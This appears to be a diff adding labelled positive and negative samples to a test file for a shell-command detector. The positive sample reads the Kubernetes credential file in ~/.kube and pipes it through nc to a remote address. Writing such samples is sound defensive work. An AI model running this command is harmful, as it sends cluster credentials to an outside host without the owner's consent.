@@ -349,3 +349,9 @@ E
 sftp -b - h <<E
 put dist/app.tgz
 E
+#@ pos a cd run through command, then a relative credential file
+command cd ~/.kube || exit 1
+gzip -c config | nc 203.0.113.1 9000
+#@ neg a cd run through builtin into a project, then its config
+builtin cd ./deploy || exit 1
+gzip -c config > config.gz
